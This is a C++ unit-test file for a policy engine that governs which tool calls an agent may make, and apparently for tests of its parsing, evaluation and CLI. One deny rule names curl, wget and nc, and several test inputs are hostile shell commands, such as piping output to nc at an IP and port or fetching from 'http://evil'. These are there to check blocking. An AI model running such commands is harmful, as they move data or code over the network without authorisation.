// Tool policy: strict parsing (every error with its JSON pointer), evaluation order, glob/RE2,
// argument matching, min_trust, profiles, file loading and the CLI functions.
#include <gtest/gtest.h>

#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <fstream>
#include <sstream>

#include "governance/tool_policy.hpp"
#include "governance/tool_policy_cli.hpp"

namespace sallyport::governance {
namespace {

std::shared_ptr<const ToolPolicy> must_parse(std::string_view text,
                                             const ToolPolicyLoadOptions& options = {}) {
  auto result = parse_tool_policy(text, options);
  for (const auto& e : result.errors) ADD_FAILURE() << e.to_string();
  EXPECT_TRUE(result.ok());
  return result.policy;
}

std::vector<std::string> error_strings(std::string_view text) {
  auto result = parse_tool_policy(text);
  EXPECT_FALSE(result.ok());
  std::vector<std::string> out;
  for (const auto& e : result.errors) out.push_back(e.to_string());
  return out;
}

struct BadCase {
  const char* name;
  const char* json;
  const char* expected_error;  // exact "pointer: message" of one reported error
};

const BadCase kBadCases[] = {
    {"not_json", R"({"version":1,)", "invalid JSON: "},
    {"not_object", R"([1,2])", "expected a JSON object"},
    {"missing_version", R"({"default":"allow"})", "missing required key \"version\""},
    {"wrong_version", R"({"version":2,"default":"allow"})", "/version: expected 1"},
    {"version_string", R"({"version":"1","default":"allow"})", "/version: expected 1"},
    {"missing_default", R"({"version":1})", "missing required key \"default\""},
    {"default_log", R"({"version":1,"default":"log"})", "/default: expected one of allow, deny"},
    {"unknown_top_key", R"({"version":1,"default":"allow","rulez":[]})",
     "/rulez: unknown key (expected one of version, default, rules, profiles, profile)"},
    {"rules_not_array", R"({"version":1,"default":"allow","rules":{}})",
     "/rules: expected an array of rules"},
    {"rule_not_object", R"({"version":1,"default":"allow","rules":["shell"]})",
     "/rules/0: expected an object (a rule)"},
    {"bad_action",
     R"({"version":1,"default":"allow","rules":[{"name":"a","tool":"x","action":"allow"},{"name":"b","tool":"x","action":"allow"},{"name":"c","tool":"x","action":"block"}]})",
     "/rules/2/action: expected one of allow, deny, require_approval, log"},
    {"missing_name", R"({"version":1,"default":"allow","rules":[{"tool":"x","action":"deny"}]})",
     "/rules/0: missing required key \"name\""},
    {"missing_tool", R"({"version":1,"default":"allow","rules":[{"name":"a","action":"deny"}]})",
     "/rules/0: missing required key \"tool\""},
    {"unknown_rule_key",
     R"({"version":1,"default":"allow","rules":[{"name":"a","tool":"x","action":"deny","when":1}]})",
     "/rules/0/when: unknown key (expected one of name, tool, args, action, min_trust)"},
    {"bad_tool_regex",
     R"({"version":1,"default":"allow","rules":[{"name":"a","tool":"re:(unclosed","action":"deny"}]})",
     "/rules/0/tool: invalid RE2 pattern: missing ): (unclosed"},
    {"empty_tool", R"({"version":1,"default":"allow","rules":[{"name":"a","tool":"","action":"deny"}]})",
     "/rules/0/tool: expected a non-empty string: a tool name, a glob (fs_*) or re:<RE2>"},
    {"bad_args_regex",
     R"({"version":1,"default":"allow","rules":[{"name":"a","tool":"x","args":"[z-a]","action":"deny"}]})",
     "/rules/0/args: invalid RE2 pattern: invalid character class range: z-a"},
    {"args_not_string",
     R"({"version":1,"default":"allow","rules":[{"name":"a","tool":"x","args":5,"action":"deny"}]})",
     "/rules/0/args: expected a non-empty RE2 pattern string"},
    {"min_trust_too_high",
     R"({"version":1,"default":"allow","rules":[{"name":"a","tool":"x","action":"allow","min_trust":1001}]})",
     "/rules/0/min_trust: expected an integer 0..1000"},
    {"min_trust_negative",
     R"({"version":1,"default":"allow","rules":[{"name":"a","tool":"x","action":"allow","min_trust":-1}]})",
     "/rules/0/min_trust: expected an integer 0..1000"},
    {"min_trust_float",
     R"({"version":1,"default":"allow","rules":[{"name":"a","tool":"x","action":"allow","min_trust":600.5}]})",
     "/rules/0/min_trust: expected an integer 0..1000"},
    {"duplicate_rule_name",
     R"({"version":1,"default":"allow","rules":[{"name":"a","tool":"x","action":"deny"},{"name":"a","tool":"y","action":"deny"}]})",
     "/rules/1/name: duplicate rule name \"a\" (first at /rules/0)"},
    {"reserved_rule_name",
     R"({"version":1,"default":"allow","rules":[{"name":"default","tool":"x","action":"deny"}]})",
     "/rules/0/name: \"default\" is reserved for the default action"},
    {"bad_rule_name_chars",
     R"({"version":1,"default":"allow","rules":[{"name":"no shell","tool":"x","action":"deny"}]})",
     "/rules/0/name: expected 1-128 characters from [A-Za-z0-9_.:-]"},
    {"duplicate_json_key",
     R"({"version":1,"default":"allow","rules":[{"name":"a","tool":"x","action":"allow","action":"deny"}]})",
     "/rules/0/action: duplicate key"},
    {"unknown_profile_selected", R"({"version":1,"default":"allow","profile":"strict"})",
     "/profile: expected the name of a profile (one of default)"},
    {"profile_bad_rule",
     R"({"version":1,"default":"allow","profiles":{"strict":{"default":"deny","rules":[{"name":"a","tool":"x","action":"nope"}]}}})",
     "/profiles/strict/rules/0/action: expected one of allow, deny, require_approval, log"},
    {"profile_unknown_key",
     R"({"version":1,"default":"allow","profiles":{"strict":{"default":"deny","version":1}}})",
     "/profiles/strict/version: unknown key (expected one of default, rules)"},
    {"profile_named_default",
     R"({"version":1,"default":"allow","profiles":{"default":{"default":"deny"}}})",
     "/profiles/default: profile names are 1-128 characters from [A-Za-z0-9_.:-] and not "
     "\"default\" (the top level is the default profile)"},
};

class BadPolicy : public testing::TestWithParam<BadCase> {};

TEST_P(BadPolicy, ReportsTheExactPointerAndMessage) {
  const BadCase& c = GetParam();
  const auto errors = error_strings(c.json);
  bool found = false;
  for (const auto& e : errors) {
    found = found || e == c.expected_error ||
            (std::string_view(c.expected_error).ends_with(": ") && e.starts_with(c.expected_error));
  }
  std::string all;
  for (const auto& e : errors) all += "\n  " + e;
  EXPECT_TRUE(found) << "expected: " << c.expected_error << "\ngot:" << all;
}

INSTANTIATE_TEST_SUITE_P(ToolPolicyParse, BadPolicy, testing::ValuesIn(kBadCases),
                         [](const auto& info) { return std::string(info.param.name); });

TEST(ToolPolicyParse, ListsAllErrorsNotJustTheFirst) {
  const auto errors = error_strings(R"({"version":3,"default":"maybe","extra":true,
    "rules":[{"name":"a","tool":"re:(","action":"allow","min_trust":5000},
             {"name":"a b","tool":"x","action":"kill"}]})");
  const std::vector<std::string> expected = {
      "/extra: unknown key (expected one of version, default, rules, profiles, profile)",
      "/version: expected 1",
      "/default: expected one of allow, deny",
      "/rules/0/tool: invalid RE2 pattern: missing ): (",
      "/rules/0/min_trust: expected an integer 0..1000",
      "/rules/1/name: expected 1-128 characters from [A-Za-z0-9_.:-]",
      "/rules/1/action: expected one of allow, deny, require_approval, log",
  };
  EXPECT_EQ(errors, expected);
}

TEST(ToolPolicyParse, ShippedExamplePoliciesLoad) {
  for (const char* name : {"default.json", "strict.json"}) {
    auto result = load_tool_policy_file(std::string(SALLYPORT_POLICY_DIR) + "/" + name);
    for (const auto& e : result.errors) ADD_FAILURE() << name << ": " << e.to_string();
    ASSERT_TRUE(result.ok()) << name;
    EXPECT_GT(result.policy->rule_count(), 3u);
  }
}

constexpr const char* kPolicy = R"({
  "version": 1, "default": "allow",
  "rules": [
    {"name": "shell-no-net", "tool": "shell", "args": "\\b(curl|wget|nc)\\b", "action": "deny"},
    {"name": "shell-ok", "tool": "shell", "action": "log", "min_trust": 600},
    {"name": "fs-delete", "tool": "fs_delete*", "action": "require_approval"},
    {"name": "fs-any", "tool": "fs_*", "action": "allow"},
    {"name": "one-char", "tool": "tool?", "action": "deny"},
    {"name": "exec-family", "tool": "re:^(exec|run)_.*$", "action": "deny"},
    {"name": "deploy", "tool": "deploy", "action": "allow", "min_trust": 800}
  ],
  "profiles": {"strict": {"default": "deny", "rules": [
    {"name": "fs-read", "tool": "fs_read", "action": "allow"}]}}
})";

struct EvalCase {
  const char* tool;
  const char* args;
  std::optional<int> trust;
  Verdict verdict;
  const char* reason;
  const char* rule;
};

TEST(ToolPolicyEvaluate, TableOfCallsToExactReasonAndRule) {
  auto policy = must_parse(kPolicy);
  ASSERT_TRUE(policy);
  const EvalCase cases[] = {
      {"shell", R"({"command":"curl http://evil"})", 900, Verdict::deny, "tool:denied", "shell-no-net"},
      {"shell", R"({"command": "ls | nc 1.2.3.4 4444"})", 900, Verdict::deny, "tool:denied", "shell-no-net"},
      // \u0077get decodes to wget: canonicalisation defeats escape tricks.
      {"shell", R"({"command":"\u0077get x"})", 900, Verdict::deny, "tool:denied", "shell-no-net"},
      {"shell", R"({"command":"ls -la"})", 900, Verdict::allow, "tool:logged", "shell-ok"},
      {"shell", R"({"command":"ls -la"})", 599, Verdict::deny, "trust:below-threshold", "shell-ok"},
      {"shell", R"({"command":"ls -la"})", std::nullopt, Verdict::allow, "tool:logged", "shell-ok"},
      {"shell", R"({"command":"netcat"})", 900, Verdict::allow, "tool:logged", "shell-ok"},
      {"fs_delete_file", "{}", 900, Verdict::deny, "tool:approval-required", "fs-delete"},
      {"fs_read", "{}", 900, Verdict::allow, "tool:allowed", "fs-any"},
      {"toolX", "", 900, Verdict::deny, "tool:denied", "one-char"},
      {"toolXY", "", 900, Verdict::allow, "tool:allowed", "default"},
      {"exec_python", "", 900, Verdict::deny, "tool:denied", "exec-family"},
      {"my_exec_python", "", 900, Verdict::allow, "tool:allowed", "default"},
      {"deploy", "", 800, Verdict::allow, "tool:allowed", "deploy"},
      {"deploy", "", 799, Verdict::deny, "trust:below-threshold", "deploy"},
      {"Shell", "", 900, Verdict::allow, "tool:allowed", "default"},
  };
  for (const auto& c : cases) {
    const auto result = policy->evaluate(c.tool, c.args, TrustInput{c.trust, 0});
    EXPECT_EQ(result.decision.verdict, c.verdict) << c.tool << " " << c.args;
    EXPECT_EQ(result.decision.reason, c.reason) << c.tool << " " << c.args;
    EXPECT_EQ(result.decision.rule, c.rule) << c.tool << " " << c.args;
  }
}

TEST(ToolPolicyEvaluate, FirstMatchingRuleWinsInFileOrder) {
  auto first_allow = must_parse(R"({"version":1,"default":"deny","rules":[
    {"name":"allow-all-fs","tool":"fs_*","action":"allow"},
    {"name":"deny-write","tool":"fs_write","action":"deny"}]})");
  auto first_deny = must_parse(R"({"version":1,"default":"allow","rules":[
    {"name":"deny-write","tool":"fs_write","action":"deny"},
    {"name":"allow-all-fs","tool":"fs_*","action":"allow"}]})");
  EXPECT_EQ(first_allow->evaluate("fs_write", "{}").decision.rule, "allow-all-fs");
  EXPECT_TRUE(first_allow->evaluate("fs_write", "{}").decision.allowed());
  EXPECT_EQ(first_deny->evaluate("fs_write", "{}").decision.rule, "deny-write");
  EXPECT_FALSE(first_deny->evaluate("fs_write", "{}").decision.allowed());
  // No match: the explicit default, named "default".
  const auto fallback = first_allow->evaluate("web_search", "{}");
  EXPECT_FALSE(fallback.decision.allowed());
  EXPECT_EQ(fallback.decision.reason, "tool:denied");
  EXPECT_EQ(fallback.decision.rule, "default");
}

TEST(ToolPolicyEvaluate, TrustThresholdDeniesEveryRuleWithMinTrust) {
  auto policy = must_parse(kPolicy);
  // Score 650 satisfies shell-ok's min_trust 600, but the trust config threshold 700 is higher.
  EXPECT_TRUE(policy->evaluate("shell", "{}", TrustInput{650, 500}).decision.allowed());
  const auto below = policy->evaluate("shell", "{}", TrustInput{650, 700});
  EXPECT_EQ(below.decision.reason, "trust:below-threshold");
  // Rules without min_trust are unaffected by the threshold.
  EXPECT_TRUE(policy->evaluate("fs_read", "{}", TrustInput{10, 700}).decision.allowed());
}

TEST(ToolPolicyEvaluate, AlwaysDeniedDrivesRequestStripping) {
  auto policy = must_parse(kPolicy);
  EXPECT_FALSE(policy->always_denied("shell", TrustInput{900, 0}));  // only some args denied
  EXPECT_TRUE(policy->always_denied("shell", TrustInput{100, 0}));   // every path denies
  EXPECT_TRUE(policy->always_denied("exec_x"));
  EXPECT_TRUE(policy->always_denied("toolZ"));
  EXPECT_FALSE(policy->always_denied("fs_delete"));  // approval decided per call
  EXPECT_FALSE(policy->always_denied("anything_else"));
  auto deny_default = must_parse(R"({"version":1,"default":"deny","rules":[
    {"name":"deny-curl","tool":"shell","args":"curl","action":"deny"}]})");
  EXPECT_TRUE(deny_default->always_denied("shell"));
}

TEST(ToolPolicyProfiles, FileSelectionAndOverride) {
  auto base = must_parse(kPolicy);
  EXPECT_EQ(base->active_profile(), "default");
  EXPECT_EQ(base->profile_names(), (std::vector<std::string>{"default", "strict"}));

  ToolPolicyLoadOptions strict_options;
  strict_options.profile = "strict";
  auto strict = must_parse(kPolicy, strict_options);
  EXPECT_EQ(strict->active_profile(), "strict");
  EXPECT_EQ(strict->rule_count(), 1u);
  EXPECT_TRUE(strict->evaluate("fs_read", "{}").decision.allowed());
  EXPECT_EQ(strict->evaluate("fs_write", "{}").decision.rule, "default");
  EXPECT_FALSE(strict->evaluate("fs_write", "{}").decision.allowed());

  std::string selected = kPolicy;
  selected.insert(selected.rfind('}'), R"(, "profile": "strict")");
  EXPECT_EQ(must_parse(selected)->active_profile(), "strict");

  ToolPolicyLoadOptions missing;
  missing.profile = "paranoid";
  auto result = parse_tool_policy(kPolicy, missing);
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.errors.at(0).message,
            "profile \"paranoid\" is not defined (one of default, strict)");
}

class PolicyFile : public testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/tmp/sallyport-policy-XXXXXX";
    ASSERT_NE(::mkdtemp(tmpl), nullptr);
    dir_ = tmpl;
  }
  void TearDown() override {
    for (const auto& f : files_) ::unlink(f.c_str());
    ::rmdir(dir_.c_str());
  }
  std::string write(const std::string& name, const std::string& content) {
    const std::string path = dir_ + "/" + name;
    std::ofstream(path) << content;
    files_.push_back(path);
    return path;
  }
  std::string dir_;
  std::vector<std::string> files_;
};

TEST_F(PolicyFile, RefusesOversizeSymlinkAndMissingFiles) {
  const std::string good = write("good.json", kPolicy);
  EXPECT_TRUE(load_tool_policy_file(good).ok());

  ToolPolicyLoadOptions tiny;
  tiny.max_file_bytes = 16;
  auto big = load_tool_policy_file(good, tiny);
  ASSERT_FALSE(big.ok());
  EXPECT_NE(big.errors[0].message.find("limit is 16"), std::string::npos);

  const std::string link = dir_ + "/link.json";
  ASSERT_EQ(::symlink(good.c_str(), link.c_str()), 0);
  files_.push_back(link);
  EXPECT_FALSE(load_tool_policy_file(link).ok());  // O_NOFOLLOW
  EXPECT_FALSE(load_tool_policy_file(dir_).ok());  // not a regular file
  auto missing = load_tool_policy_file(dir_ + "/nope.json");
  ASSERT_FALSE(missing.ok());
  EXPECT_NE(missing.errors[0].message.find("cannot open"), std::string::npos);
}

TEST_F(PolicyFile, StoreKeepsLastGoodSnapshotOnBadReload) {
  const std::string path = write("p.json", kPolicy);
  ToolPolicyStore store(load_tool_policy_file(path).policy);
  auto before = store.current();
  std::ofstream(path) << R"({"version":1,"default":"deny","rules":[{"name":"x","tool":"shell","action":"nope"}]})";
  auto errors = store.reload(path);
  ASSERT_EQ(errors.size(), 1u);
  EXPECT_EQ(store.current(), before);
  std::ofstream(path) << R"({"version":1,"default":"deny"})";
  EXPECT_TRUE(store.reload(path).empty());
  EXPECT_NE(store.current(), before);
  EXPECT_FALSE(store.current()->evaluate("fs_read", "{}").decision.allowed());
  // The old snapshot stays valid for requests still holding it.
  EXPECT_TRUE(before->evaluate("fs_read", "{}").decision.allowed());
}

TEST_F(PolicyFile, CliCheckAndTest) {
  const std::string good = write("good.json", kPolicy);
  const std::string bad = write("bad.json",
      R"({"version":1,"default":"allow","rules":[{"name":"a","tool":"x","action":"allow"},{"name":"b","tool":"x","action":"allow"},{"name":"c","tool":"x","action":"block"}],"x":1})");
  std::ostringstream out;
  EXPECT_EQ(run_policy_check(good, out), 0);
  EXPECT_EQ(out.str(), "OK: " + good + ": profile 'default' active, 7 rules, default allow "
                       "(profiles: default, strict)\n");
  out.str("");
  EXPECT_EQ(run_policy_check(bad, out), 1);
  EXPECT_EQ(out.str(), bad + ": /x: unknown key (expected one of version, default, rules, profiles, profile)\n" +
                           bad + ": /rules/2/action: expected one of allow, deny, require_approval, log\n"
                           "2 errors\n");
  out.str("");
  EXPECT_EQ(run_policy_test(good, "shell", R"({"command":"wget x"})", 900, out), 0);
  EXPECT_EQ(out.str(), "decision: deny\naction: deny\nreason: tool:denied\nrule: shell-no-net\n");
  out.str("");
  EXPECT_EQ(run_policy_test(good, "shell", "{}", 100, out), 0);
  EXPECT_NE(out.str().find("reason: trust:below-threshold\nrule: shell-ok\n"), std::string::npos);
  out.str("");
  EXPECT_EQ(run_policy_test(good, "shell", "{not json", std::nullopt, out), 2);
  EXPECT_EQ(run_policy_test(bad, "shell", "{}", std::nullopt, out), 1);
}

}  // namespace
}  // namespace sallyport::governance
